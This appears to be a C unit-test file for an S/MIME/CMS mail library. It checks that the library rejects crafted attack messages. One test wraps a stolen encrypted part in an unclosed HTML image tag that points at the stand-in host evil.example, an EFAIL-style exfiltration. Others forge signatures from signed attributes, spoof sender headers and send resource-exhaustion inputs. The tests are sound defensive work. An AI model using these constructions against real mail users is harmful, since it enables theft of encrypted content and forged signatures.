/* SPDX-License-Identifier: Apache-2.0 */
/* Messages that somebody bent until they look like something they are not. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>

#include <cmocka.h>

#include "asn1/builder.h"
#include "asn1/oid.h"
#include "cms/writer.h"
#include "crypto/key.h"
#include "pki/build.h"
#include "support/feed.h"
#include "support/hex.h"
#include "support/message.h"
#include "support/people.h"

#define COUNT(a) (sizeof(a) / sizeof *(a))
/* Inside the validity of the vectors' certificates. */
#define JUDGED_AT 1893456000

static sgl_engine *engine;
static char folder[512];

static message_offer
make_offer(const char *keys)
{
	message_offer o = {.at = JUDGED_AT, .peel = SGL_PEEL_ALL};
	sgl_keyring ring = {0};

	message_load(engine, folder, "ca.pem", NULL, &ring);
	assert_int_equal(
	    sgl_certs_add(&o.anchors, ring.certs.items[0], NULL), SGL_OK);
	sgl_keyring_clear(&ring);
	if (keys != NULL)
		message_load(engine, folder, keys, NULL, &o.ring);
	return o;
}

static void
withdraw(message_offer *o)
{
	sgl_keyring_clear(&o->ring);
	sgl_certs_clear(&o->anchors);
}

static void
add_str(sgl_buf *out, const char *text)
{
	assert_int_equal(sgl_buf_add_str(out, text, NULL), SGL_OK);
}

static void
add_file(sgl_buf *out, const char *name)
{
	sgl_buf file = message_file(folder, name);

	assert_int_equal(sgl_buf_add(out, sgl_buf_slice(&file), NULL), SGL_OK);
	sgl_buf_clear(&file);
}

/* Text of a stranger's in front of a stolen encrypted message, so that the two
 * come out in one piece: "<img src='http://evil.example/" and the secret. */
static void
test_encryption_in_place_of_signature(void **state)
{
	static const char *const files[] = {
	    "env-rsa-aes-256-cbc.eml", "auth-rsa-aes-128-gcm.eml"};
	message_offer o = make_offer("rsa.pem");

	(void)state;
	for (size_t i = 0; i < COUNT(files); i++) {
		SGL_AUTO_CLEAR(sgl_buf) m = sgl_buf_init(MESSAGE_MAX);
		message_outcome got;

		add_str(&m,
		    "From: alice@example.org\r\nContent-Type: "
		    "multipart/signed; protocol=\"application/"
		    "pkcs7-signature\"; micalg=sha-256; boundary=b\r\n"
		    "\r\n--b\r\n\r\n<img src=\"http://evil.example/\r\n"
		    "--b\r\n");
		add_file(&m, files[i]);
		add_str(&m, "\r\n--b--\r\n");
		message_read(engine, sgl_buf_slice(&m), &o, m.len, true, &got);
		assert_int_equal(got.status, SGL_E_ENCODING);
		assert_false(got.finished);
		assert_true(got.content.len < 100);
		message_outcome_clear(&got);
	}
	withdraw(&o);
}

/* A first line around the length that is looked at: where the input is cut
 * must not decide what is a header. */
static void
test_long_first_line(void **state)
{
	message_offer o = make_offer(NULL);

	(void)state;
	for (int len = 4090; len < 4100; len++) {
		SGL_AUTO_CLEAR(sgl_buf) m = sgl_buf_init(MESSAGE_MAX);
		message_outcome whole, pieces;

		assert_int_equal(
		    sgl_buf_printf(&m, NULL, "X-Long: %0*d\r\n", len - 8, 0),
		    SGL_OK);
		add_file(&m, "clear-rsa-sha256.eml");
		message_read(
		    engine, sgl_buf_slice(&m), &o, m.len, true, &whole);
		assert_string_equal(whole.signature, "valid-trusted");
		message_read(engine, sgl_buf_slice(&m), &o, 1, true, &pieces);
		message_same(&whole, &pieces);
		message_outcome_clear(&whole);
		message_outcome_clear(&pieces);
	}
	withdraw(&o);
}

/* The same for a line whose colon stands behind that length. */
static void
test_late_colon(void **state)
{
	SGL_AUTO_CLEAR(sgl_buf) m = sgl_buf_init(MESSAGE_MAX);
	message_offer o = make_offer(NULL);
	message_outcome whole, pieces;

	(void)state;
	assert_int_equal(
	    sgl_buf_printf(&m, NULL, "%05000d: x\r\n\r\nbody\r\n", 0), SGL_OK);
	message_read(engine, sgl_buf_slice(&m), &o, m.len, true, &whole);
	message_read(engine, sgl_buf_slice(&m), &o, 1, true, &pieces);
	message_same(&whole, &pieces);
	assert_int_equal(whole.status, SGL_E_ENCODING);
	message_outcome_clear(&whole);
	message_outcome_clear(&pieces);
	withdraw(&o);
}

static void
add_algorithm(sgl_derb *b, sgl_oid oid)
{
	size_t mark = sgl_derb_open(b, SGL_SEQUENCE);

	sgl_derb_oid(b, sgl_oid_der(oid));
	sgl_derb_close(b, mark);
}

static void
add_signer(sgl_derb *b, const sgl_signer_info *s)
{
	size_t signer = sgl_derb_open(b, SGL_SEQUENCE), sid;

	sgl_derb_uint(b, 1);
	sid = sgl_derb_open(b, SGL_SEQUENCE);
	sgl_derb_raw(b, s->issuer);
	sgl_derb_bytes(b, SGL_INTEGER, s->serial);
	sgl_derb_close(b, sid);
	add_algorithm(b, SGL_OID_SHA256);
	add_algorithm(b, SGL_OID_RSA_ENCRYPTION);
	sgl_derb_octets(b, s->signature);
	sgl_derb_close(b, signer);
}

/* SignedData of `content`, with the signature of `s` and no attributes. */
static void
forge(const sgl_cms_report *from, sgl_slice content, sgl_buf *out)
{
	sgl_derb b = sgl_derb_over(out);
	size_t ci = sgl_derb_open(&b, SGL_SEQUENCE), tagged, data, mark, wrap;

	sgl_derb_oid(&b, sgl_oid_der(SGL_OID_SIGNED_DATA));
	tagged = sgl_derb_open(&b, SGL_CONTEXT(0));
	data = sgl_derb_open(&b, SGL_SEQUENCE);
	sgl_derb_uint(&b, 1);
	mark = sgl_derb_open(&b, SGL_SET);
	add_algorithm(&b, SGL_OID_SHA256);
	sgl_derb_close(&b, mark);
	mark = sgl_derb_open(&b, SGL_SEQUENCE);
	sgl_derb_oid(&b, sgl_oid_der(SGL_OID_DATA));
	wrap = sgl_derb_open(&b, SGL_CONTEXT(0));
	sgl_derb_octets(&b, content);
	sgl_derb_close(&b, wrap);
	sgl_derb_close(&b, mark);
	mark = sgl_derb_open(&b, SGL_CONTEXT(0));
	sgl_derb_raw(&b, from->certs.items[0]->der);
	sgl_derb_close(&b, mark);
	mark = sgl_derb_open(&b, SGL_SET);
	add_signer(&b, &from->signers[0]);
	sgl_derb_close(&b, mark);
	sgl_derb_close(&b, data);
	sgl_derb_close(&b, tagged);
	sgl_derb_close(&b, ci);
	assert_int_equal(sgl_derb_end(&b, NULL), SGL_OK);
}

/* What a signature covers is the attributes, as a SET OF. Shown as the content
 * of a signature without attributes they verify: but nobody meant to say that.
 */
static void
test_attributes_as_content(void **state)
{
	static const sgl_read_options options = {.peel = SGL_PEEL_ALL};
	sgl_buf file = message_file(folder, "opaque-rsa-sha256.eml"),
		drop = sgl_buf_init(MESSAGE_MAX),
		forged = sgl_buf_init(MESSAGE_MAX);
	message_offer o = make_offer(NULL);
	const sgl_report *report = NULL;
	sgl_reader *r = NULL;
	message_outcome got;
	sgl_bufsink sink;
	size_t taken;

	(void)state;
	sgl_bufsink_init(&sink, &drop);
	assert_int_equal(
	    sgl_reader_new(engine, &options, &sink.sink, &r, NULL), SGL_OK);
	assert_int_equal(
	    sgl_reader_push(r, sgl_buf_slice(&file), &taken, NULL), SGL_OK);
	assert_int_equal(sgl_reader_finish(r, &report, NULL), SGL_OK);
	forge(report->layers[0].cms,
	    sgl_buf_slice(&report->layers[0].cms->signers[0].attrs), &forged);
	message_read(
	    engine, sgl_buf_slice(&forged), &o, forged.len, true, &got);
	assert_int_equal(got.status, SGL_OK);
	assert_string_equal(got.signature, "tampered");
	assert_string_equal(got.reason, "malformed-attributes");
	message_outcome_clear(&got);
	sgl_reader_free(r);
	sgl_buf_clear(&file);
	sgl_buf_clear(&drop);
	sgl_buf_clear(&forged);
	withdraw(&o);
}

/* Who leaves out From to be shown as Sender is no less a liar. */
static void
test_sender_without_from(void **state)
{
	sgl_buf m = message_file(folder, "clear-rsa-sha256.eml");
	char *from = strstr((char *)m.data, "From: Alice <");
	message_offer o = make_offer(NULL);
	message_outcome got;

	(void)state;
	assert_non_null(from);
	memcpy(from, "Sender:al <m@", 13);
	message_read(engine, sgl_buf_slice(&m), &o, m.len, true, &got);
	assert_string_equal(got.signature, "valid-address-mismatch");
	message_outcome_clear(&got);
	sgl_buf_clear(&m);
	withdraw(&o);
}

#define MANY 20000

static sgl_cert *
make_cert_of_many(sgl_key *key)
{
	static char text[MANY][24];
	static sgl_slice addresses[MANY];
	sgl_buf name = sgl_buf_init(256);
	const sgl_rdn rdn = {SGL_OID_AT_CN, SGL_LIT("many")};
	sgl_cert_template t = {.serial = SGL_LIT("\1"),
	    .not_before = JUDGED_AT - 1000,
	    .not_after = JUDGED_AT + 1000,
	    .spki = sgl_key_get_spki(key),
	    .key_usage = SGL_KU_DIGITAL_SIGNATURE,
	    .addresses = addresses,
	    .num_addresses = MANY};
	sgl_cert *cert = NULL;

	for (int i = 0; i < MANY; i++) {
		(void)snprintf(text[i], sizeof text[i], "a%d@example.org", i);
		addresses[i] = sgl_slice_str(text[i]);
	}
	assert_int_equal(sgl_name_build(&rdn, 1, &name, NULL), SGL_OK);
	t.issuer = t.subject = sgl_buf_slice(&name);
	assert_int_equal(
	    sgl_cert_build(engine, &t, key, SGL_DIGEST_NONE, &cert, NULL),
	    SGL_OK);
	sgl_buf_clear(&name);
	return cert;
}

/* Thousands of authors and a certificate for tens of thousands, all compared
 * with each other, would be minutes of work for a short message. */
static void
test_too_many_comparisons(void **state)
{
	SGL_AUTO_CLEAR(sgl_buf) in = sgl_buf_init(MESSAGE_MAX);
	SGL_AUTO_CLEAR(sgl_buf) m = sgl_buf_init(MESSAGE_MAX);
	message_offer o = make_offer(NULL);
	sgl_sign_with signer = {.key = NULL};
	sgl_protect_options options = {.what = SGL_PROTECT_SIGN,
	    .signers = &signer,
	    .num_signers = 1,
	    .opaque = true,
	    .signing_time = JUDGED_AT};
	sgl_writer *w = NULL;
	message_outcome got;
	sgl_bufsink sink;
	sgl_cert *cert;
	size_t taken;

	(void)state;
	assert_int_equal(
	    sgl_key_generate(engine, SGL_KEY_P256, 0, &signer.key, NULL),
	    SGL_OK);
	signer.cert = cert = make_cert_of_many(signer.key);
	assert_int_equal(sgl_certs_add(&o.anchors, cert, NULL), SGL_OK);
	add_str(&in, "From: a19999@example.org");
	for (int i = 0; i < 4000; i++)
		add_str(&in, ",\r\n a19999@example.org");
	add_str(&in, "\r\nContent-Type: text/plain\r\n\r\nhello\r\n");
	sgl_bufsink_init(&sink, &m);
	assert_int_equal(
	    sgl_writer_new(engine, &options, &sink.sink, &w, NULL), SGL_OK);
	assert_int_equal(
	    sgl_writer_push(w, sgl_buf_slice(&in), &taken, NULL), SGL_OK);
	assert_int_equal(sgl_writer_finish(w, NULL), SGL_OK);
	message_read(engine, sgl_buf_slice(&m), &o, m.len, true, &got);
	assert_string_equal(got.signature, "valid-address-mismatch");
	message_outcome_clear(&got);
	sgl_writer_free(w);
	sgl_cert_unref(cert);
	sgl_key_unref(signer.key);
	withdraw(&o);
}

/* KeyAgreeRecipientInfo may name as many as it likes in one element. */
static void
add_agreement(sgl_derb *b, size_t num)
{
	static const uint8_t point[65] = {4};
	size_t kari = sgl_derb_open(b, SGL_CONTEXT(1)), outer, mark;

	sgl_derb_uint(b, 3);
	outer = sgl_derb_open(b, SGL_CONTEXT(0));
	mark = sgl_derb_open(b, SGL_CONTEXT(1));
	add_algorithm(b, SGL_OID_SHA256);
	sgl_derb_bits(b, sgl_slice_of(point, sizeof point), 0);
	sgl_derb_close(b, mark);
	sgl_derb_close(b, outer);
	add_algorithm(b, SGL_OID_SHA256);
	outer = sgl_derb_open(b, SGL_SEQUENCE);
	for (size_t i = 0; i < num; i++) {
		size_t key = sgl_derb_open(b, SGL_SEQUENCE);

		mark = sgl_derb_open(b, SGL_CONTEXT(0));
		sgl_derb_octets(b, SGL_LIT("x"));
		sgl_derb_close(b, mark);
		sgl_derb_octets(b, SGL_LIT("y"));
		sgl_derb_close(b, key);
	}
	sgl_derb_close(b, outer);
	sgl_derb_close(b, kari);
}

static void
test_too_many_agreements(void **state)
{
	SGL_AUTO_CLEAR(sgl_buf) m = sgl_buf_init(MESSAGE_MAX);
	sgl_derb b = sgl_derb_over(&m);
	size_t ci = sgl_derb_open(&b, SGL_SEQUENCE), tagged, data, set;
	message_offer o = make_offer(NULL);
	message_outcome got;

	(void)state;
	sgl_derb_oid(&b, sgl_oid_der(SGL_OID_ENVELOPED_DATA));
	tagged = sgl_derb_open(&b, SGL_CONTEXT(0));
	data = sgl_derb_open(&b, SGL_SEQUENCE);
	sgl_derb_uint(&b, 2);
	set = sgl_derb_open(&b, SGL_SET);
	add_agreement(&b, 10001);
	sgl_derb_close(&b, set);
	sgl_derb_close(&b, data);
	sgl_derb_close(&b, tagged);
	sgl_derb_close(&b, ci);
	assert_int_equal(sgl_derb_end(&b, NULL), SGL_OK);
	message_read(engine, sgl_buf_slice(&m), &o, m.len, false, &got);
	assert_int_equal(got.status, SGL_E_LIMIT);
	message_outcome_clear(&got);
	withdraw(&o);
}

/* PasswordRecipientInfo of so many rounds, whose key nobody knows. */
static void
add_password(sgl_derb *b, uint64_t rounds)
{
	static const uint8_t zeros[48] = {0};
	size_t pwri = sgl_derb_open(b, SGL_CONTEXT(3)), outer, mark;

	sgl_derb_uint(b, 0);
	outer = sgl_derb_open(b, SGL_CONTEXT(0));
	sgl_derb_oid(b, sgl_oid_der(SGL_OID_PBKDF2));
	mark = sgl_derb_open(b, SGL_SEQUENCE);
	sgl_derb_octets(b, SGL_LIT("saltsalt"));
	sgl_derb_uint(b, rounds);
	sgl_derb_close(b, mark);
	sgl_derb_close(b, outer);
	outer = sgl_derb_open(b, SGL_SEQUENCE);
	sgl_derb_oid(b, sgl_oid_der(SGL_OID_ALG_PWRI_KEK));
	mark = sgl_derb_open(b, SGL_SEQUENCE);
	sgl_derb_oid(b, sgl_oid_der(SGL_OID_AES128_CBC));
	sgl_derb_octets(b, sgl_slice_of(zeros, 16));
	sgl_derb_close(b, mark);
	sgl_derb_close(b, outer);
	sgl_derb_octets(b, sgl_slice_of(zeros, sizeof zeros));
	sgl_derb_close(b, pwri);
}

static void
make_passwords(size_t num, uint64_t rounds, sgl_buf *out)
{
	static const uint8_t iv[16] = {0};
	sgl_derb b = sgl_derb_over(out);
	size_t ci = sgl_derb_open(&b, SGL_SEQUENCE), tagged, data, mark, alg;

	sgl_derb_oid(&b, sgl_oid_der(SGL_OID_ENVELOPED_DATA));
	tagged = sgl_derb_open(&b, SGL_CONTEXT(0));
	data = sgl_derb_open(&b, SGL_SEQUENCE);
	sgl_derb_uint(&b, 3);
	mark = sgl_derb_open(&b, SGL_SET);
	for (size_t i = 0; i < num; i++)
		add_password(&b, rounds);
	sgl_derb_close(&b, mark);
	mark = sgl_derb_open(&b, SGL_SEQUENCE);
	sgl_derb_oid(&b, sgl_oid_der(SGL_OID_DATA));
	alg = sgl_derb_open(&b, SGL_SEQUENCE);
	sgl_derb_oid(&b, sgl_oid_der(SGL_OID_AES128_CBC));
	sgl_derb_octets(&b, sgl_slice_of(iv, sizeof iv));
	sgl_derb_close(&b, alg);
	sgl_derb_close(&b, mark);
	sgl_derb_close(&b, data);
	sgl_derb_close(&b, tagged);
	sgl_derb_close(&b, ci);
	assert_int_equal(sgl_derb_end(&b, NULL), SGL_OK);
}

/* Each may be within the limit; all of them together must be. */
static void
test_too_many_derivations(void **state)
{
	static const struct {
		size_t num;
		uint64_t rounds;
		sgl_status want;
	} rows[] = {{1, 1000, SGL_E_PASSWORD}, {1, 1001, SGL_E_LIMIT},
	    {2, 500, SGL_E_PASSWORD}, {3, 500, SGL_E_LIMIT}};
	const sgl_limits limits = {.kdf_iterations = 1000};
	const sgl_engine_config config = {.limits = &limits};
	message_offer o = {.peel = SGL_PEEL_ALL, .password = SGL_LIT("x")};
	sgl_engine *small = NULL;

	(void)state;
	assert_int_equal(sgl_engine_new(&config, &small, NULL), SGL_OK);
	for (size_t i = 0; i < COUNT(rows); i++) {
		SGL_AUTO_CLEAR(sgl_buf) m = sgl_buf_init(MESSAGE_MAX);
		message_outcome got;

		make_passwords(rows[i].num, rows[i].rounds, &m);
		message_read(small, sgl_buf_slice(&m), &o, m.len, false, &got);
		assert_int_equal(got.status, rows[i].want);
		message_outcome_clear(&got);
	}
	sgl_engine_free(small);
}

#define DATA "2a864886f70d010701"
#define OTHER "2a864886f70d0109100101" /* id-ct-receipt */
#define TYPE_IS(len, oidlen, oid) "30" len "06092a864886f70d01090331" oidlen oid
#define ATTR_DATA TYPE_IS("18", "0b", "0609" DATA)
#define ATTR_OTHER TYPE_IS("1a", "0d", "060b" OTHER)

/* AuthEnvelopedData of that type, with these authenticated attributes, for
 * somebody with another key. */
static void
make_authenticated(const char *type, const char *attributes, sgl_buf *out)
{
	static const uint8_t zeros[16] = {0};
	sgl_derb b = sgl_derb_over(out);
	size_t ci = sgl_derb_open(&b, SGL_SEQUENCE), tagged, data, mark, alg;

	sgl_derb_oid(&b, sgl_oid_der(SGL_OID_AUTH_ENVELOPED_DATA));
	tagged = sgl_derb_open(&b, SGL_CONTEXT(0));
	data = sgl_derb_open(&b, SGL_SEQUENCE);
	sgl_derb_uint(&b, 0);
	mark = sgl_derb_open(&b, SGL_SET);
	add_password(&b, 1000);
	sgl_derb_close(&b, mark);
	mark = sgl_derb_open(&b, SGL_SEQUENCE);
	sgl_derb_oid(&b, unhex(type));
	alg = sgl_derb_open(&b, SGL_SEQUENCE);
	sgl_derb_oid(&b, sgl_oid_der(SGL_OID_AES128_GCM));
	sgl_derb_raw(&b, unhex("3011 040c 000000000000000000000000 020110"));
	sgl_derb_close(&b, alg);
	sgl_derb_bytes(&b, SGL_CONTEXT_PRIMITIVE(0), SGL_LIT("x"));
	sgl_derb_close(&b, mark);
	if (attributes[0] != '\0')
		sgl_derb_bytes(&b, SGL_CONTEXT(1), unhex(attributes));
	sgl_derb_octets(&b, sgl_slice_of(zeros, sizeof zeros));
	sgl_derb_close(&b, data);
	sgl_derb_close(&b, tagged);
	sgl_derb_close(&b, ci);
	assert_int_equal(sgl_derb_end(&b, NULL), SGL_OK);
}

/* RFC 5083 2.1: where it is no data, the tag must protect what it is. */
static void
test_type_outside_of_the_tag(void **state)
{
	static const struct {
		const char *type, *attributes;
		sgl_status want;
	} rows[] = {
	    {DATA, "", SGL_OK},
	    {DATA, ATTR_DATA, SGL_OK},
	    {DATA, ATTR_OTHER, SGL_E_ENCODING},
	    {DATA, ATTR_DATA ATTR_DATA, SGL_E_ENCODING},
	    {DATA, "3006 06022a03 3100", SGL_OK},
	    {OTHER, "", SGL_E_ENCODING},
	    {OTHER, "3006 06022a03 3100", SGL_E_ENCODING},
	    {OTHER, ATTR_DATA, SGL_E_ENCODING},
	    {OTHER, ATTR_OTHER, SGL_OK},
	    {OTHER, TYPE_IS("0d", "00", ""), SGL_E_ENCODING},
	};
	message_offer o = make_offer(NULL);

	(void)state;
	for (size_t i = 0; i < COUNT(rows); i++) {
		SGL_AUTO_CLEAR(sgl_buf) m = sgl_buf_init(MESSAGE_MAX);
		message_outcome got;

		make_authenticated(rows[i].type, rows[i].attributes, &m);
		message_read(engine, sgl_buf_slice(&m), &o, m.len, false, &got);
		if (got.status != rows[i].want)
			fail_msg("row %zu: %s", i, sgl_status_name(got.status));
		message_outcome_clear(&got);
	}
	withdraw(&o);
}

/* limits.sets is for all certificates, CRLs and signers together. */
static void
test_limit_of_sets(void **state)
{
	static const struct {
		size_t sets;
		sgl_status want;
	} rows[] = {{1024, SGL_E_LIMIT}, {4096, SGL_OK}};
	sgl_buf file = message_file(folder, "opaque-two-signers.eml");
	message_offer o = make_offer(NULL);

	(void)state;
	for (size_t i = 0; i < COUNT(rows); i++) {
		const sgl_limits limits = {.sets = rows[i].sets};
		const sgl_engine_config config = {.limits = &limits};
		sgl_engine *small = NULL;
		message_outcome got;

		assert_int_equal(sgl_engine_new(&config, &small, NULL), SGL_OK);
		message_read(
		    small, sgl_buf_slice(&file), &o, file.len, false, &got);
		assert_int_equal(got.status, rows[i].want);
		message_outcome_clear(&got);
		sgl_engine_free(small);
	}
	sgl_buf_clear(&file);
	withdraw(&o);
}

/* --- what a key that answers later must not give away --- */

static void
encrypt(const sgl_tester *to, sgl_cipher_alg cipher, sgl_slice in, sgl_buf *out)
{
	SGL_AUTO(sgl_enveloped_writer)
	w = NULL;
	sgl_certs certs = {&(sgl_cert *){to->cert}, 1};
	sgl_enveloped_options options = {
	    .recipients = &certs, .cipher = cipher, .oaep = true};
	sgl_bufsink sink;

	sgl_bufsink_init(&sink, out);
	assert_int_equal(
	    sgl_enveloped_writer_new(engine, &options, &sink.sink, &w, NULL),
	    SGL_OK);
	assert_int_equal(
	    sgl_feed(sgl_enveloped_writer_sink(w), in, 0, NULL), SGL_OK);
}

static sgl_status
answer_all(sgl_reader *r, sgl_key *key, sgl_status status, sgl_err *err)
{
	while (status == SGL_NEED_KEY) {
		sgl_key_answer answer;

		status = sgl_key_ask(
		    engine, key, sgl_reader_request(r, NULL), &answer, NULL);
		status = sgl_reader_answer(r, status, &answer, err);
	}
	return status;
}

/* Reads with `key` on the ring; `real` answers where it does not. */
static sgl_err
read_some(const sgl_tester *who, sgl_key *key, sgl_slice in)
{
	sgl_buf content = sgl_buf_init(MESSAGE_MAX);
	sgl_keyring ring = {0};
	sgl_read_options options = {.peel = SGL_PEEL_ALL, .keys = &ring};
	const sgl_report *report = NULL;
	sgl_reader *r = NULL;
	sgl_bufsink sink;
	sgl_status status;
	sgl_err err = {0};
	size_t taken;

	assert_int_equal(sgl_keyring_add_cert(&ring, who->cert, NULL), SGL_OK);
	assert_int_equal(sgl_keyring_add_key(&ring, key, NULL), SGL_OK);
	sgl_bufsink_init(&sink, &content);
	assert_int_equal(
	    sgl_reader_new(engine, &options, &sink.sink, &r, NULL), SGL_OK);
	status = SGL_OK;
	while (status == SGL_OK && in.len > 0) {
		status = sgl_reader_push(r, in, &taken, &err);
		in = sgl_slice_from(in, taken);
		status = answer_all(r, who->key, status, &err);
	}
	while (status == SGL_OK && report == NULL) {
		status = sgl_reader_finish(r, &report, &err);
		status = answer_all(r, who->key, status, &err);
	}
	err.status = status;
	assert_true(status == SGL_OK || !sink.finished);
	sgl_reader_free(r);
	sgl_keyring_clear(&ring);
	sgl_buf_clear(&content);
	return err;
}

/*
 * A damaged encryption inside another. Inside CBC, whose ciphertext anybody can
 * change, the damage looks like a wrong padding; inside AEAD it may be told.
 * Whether the key answers at once or later is no difference.
 */
static void
test_damage_inside(void **state)
{
	static const struct {
		sgl_cipher_alg outer;
		sgl_status want;
	} rows[] = {
	    {SGL_CIPHER_AES256_CBC, SGL_E_DECRYPT},
	    {SGL_CIPHER_AES256_GCM, SGL_E_ENCODING},
	};
	sgl_tester bob;
	sgl_key *late;

	(void)state;
	sgl_tester_make(engine, SGL_KEY_P256, "bob", 1, SGL_KU_ALL, &bob);
	late = sgl_key_new_late(engine, bob.key);
	for (size_t i = 0; i < 2 * COUNT(rows); i++) {
		SGL_AUTO_CLEAR(sgl_buf) inner = sgl_buf_init(MESSAGE_MAX);
		SGL_AUTO_CLEAR(sgl_buf) outer = sgl_buf_init(MESSAGE_MAX);
		sgl_err now, later;

		add_str(&inner,
		    "Content-Type: application/pkcs7-mime\r\n"
		    "Content-Transfer-Encoding: binary\r\n\r\n");
		encrypt(&bob, SGL_CIPHER_AES256_CBC,
		    SGL_LIT("Content-Type: text/plain\r\n\r\nsecret\r\n"),
		    &inner);
		/* Cut, or followed by what has no place there. */
		if (i % 2 == 0)
			inner.len--;
		else
			inner.data[inner.len - 24] = 0x55;
		encrypt(&bob, rows[i / 2].outer, sgl_buf_slice(&inner), &outer);
		now = read_some(&bob, bob.key, sgl_buf_slice(&outer));
		later = read_some(&bob, late, sgl_buf_slice(&outer));
		assert_int_equal(now.status, later.status);
		assert_string_equal(now.text, later.text);
		assert_int_equal(now.offset, later.offset);
		if (i % 2 == 0)
			assert_int_equal(now.status, rows[i / 2].want);
	}
	sgl_key_unref(late);
	sgl_tester_clear(&bob);
}

/* Whatever byte of a message is flipped: where that makes decrypting fail, the
 * failure says neither what was wrong nor where, be it key or content. */
static void
check_failures(const sgl_tester *bob, sgl_key *key, sgl_cipher_alg cipher)
{
	SGL_AUTO_CLEAR(sgl_buf) m = sgl_buf_init(MESSAGE_MAX);
	size_t num = 0;
	sgl_err first = {0};

	encrypt(
	    bob, cipher, SGL_LIT("Content-Type: text/plain\r\n\r\nx\r\n"), &m);
	for (size_t i = 0; i < m.len; i++) {
		sgl_err err;

		m.data[i] ^= 0x01;
		err = read_some(bob, key, sgl_buf_slice(&m));
		m.data[i] ^= 0x01;
		if (err.status != SGL_E_DECRYPT)
			continue;
		if (num++ == 0)
			first = err;
		assert_string_equal(err.text, first.text);
		assert_string_equal(err.room, first.room);
		assert_int_equal(err.offset, first.offset);
		assert_string_equal(err.detail, first.detail);
	}
	assert_true(num > 20);
}

static void
test_failures_look_alike(void **state)
{
	static const sgl_key_kind kinds[] = {
	    SGL_KEY_RSA, SGL_KEY_P256, SGL_KEY_X25519};
	static const sgl_cipher_alg ciphers[] = {SGL_CIPHER_AES256_CBC,
	    SGL_CIPHER_AES256_GCM, SGL_CIPHER_CHACHA20_POLY1305};

	(void)state;
	for (size_t i = 0; i < COUNT(kinds) * COUNT(ciphers); i++) {
		sgl_tester bob;
		sgl_key *late;

		sgl_tester_make(engine, kinds[i % COUNT(kinds)], "bob", 1,
		    SGL_KU_ALL, &bob);
		late = sgl_key_new_late(engine, bob.key);
		check_failures(&bob, bob.key, ciphers[i / COUNT(kinds)]);
		check_failures(&bob, late, ciphers[i / COUNT(kinds)]);
		sgl_key_unref(late);
		sgl_tester_clear(&bob);
	}
}

static int
set_up(void **state)
{
	const char *source = getenv("SIGILL_SOURCE");

	(void)state;
	(void)snprintf(folder, sizeof folder,
	    "%s/tests/vectors/made-by-openssl", source == NULL ? "." : source);
	return sgl_engine_new(NULL, &engine, NULL) == SGL_OK ? 0 : -1;
}

static int
tear_down(void **state)
{
	(void)state;
	sgl_engine_free(engine);
	return 0;
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_encryption_in_place_of_signature),
	    cmocka_unit_test(test_long_first_line),
	    cmocka_unit_test(test_late_colon),
	    cmocka_unit_test(test_attributes_as_content),
	    cmocka_unit_test(test_sender_without_from),
	    cmocka_unit_test(test_too_many_comparisons),
	    cmocka_unit_test(test_too_many_agreements),
	    cmocka_unit_test(test_too_many_derivations),
	    cmocka_unit_test(test_type_outside_of_the_tag),
	    cmocka_unit_test(test_limit_of_sets),
	    cmocka_unit_test(test_damage_inside),
	    cmocka_unit_test(test_failures_look_alike),
	};

	return cmocka_run_group_tests(tests, set_up, tear_down);
}
